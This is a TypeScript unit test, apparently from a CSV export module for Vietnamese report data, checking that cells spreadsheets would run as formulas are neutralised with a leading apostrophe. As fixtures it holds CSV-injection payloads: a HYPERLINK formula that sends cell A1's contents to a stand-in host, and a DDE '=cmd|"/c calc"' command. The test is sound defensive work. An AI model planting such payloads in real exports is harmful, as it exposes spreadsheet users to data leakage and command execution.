import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { writeCsv } from './csv.ts';
import { neutraliseFormula, restoreFormula } from './formula.ts';

describe('CSV formula neutralisation (reproduction 13)', () => {
  it('prefixes text cells that a spreadsheet would run, keeps figures as numbers', () => {
    const hostile = ['=HYPERLINK("http://x/?"&A1,"click")', '@SUM(A1:A9)', '+1+1', '-1+1', '\t=1', '\r=1'];
    const csv = writeCsv(
      hostile.map((comment, i) => ({
        form: 'BC-THANG',
        unit: '40',
        period: '2026-11',
        indicator: 'crime.occurred',
        option: null,
        value: i === 0 ? -5 : 1.5,
        comment,
        indicatorName: '=cmd|"/c calc"!A1',
        measure: 'vụ',
      })),
    )
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(
      rows.map((r) => r.comment),
      hostile.map((h) => `'${h}`),
    );
    for (const r of rows) assert.equal(r.indicator_name, '\'=cmd|"/c calc"!A1');
    // A negative figure is a number, not a formula: written as is and read back as -5.
    assert.equal(rows[0]?.value, '-5');
    assert.equal(rows[1]?.value, '1,5');
    assert.equal(rows[0]?.measure, 'vụ');
  });

  it('leaves ordinary text alone and restores what it prefixed', () => {
    assert.equal(neutraliseFormula('Tăng 5 vụ'), 'Tăng 5 vụ');
    assert.equal(neutraliseFormula(''), '');
    assert.equal(restoreFormula(neutraliseFormula('=1+1')), '=1+1');
    assert.equal(restoreFormula("'bình thường"), "'bình thường");
  });
});
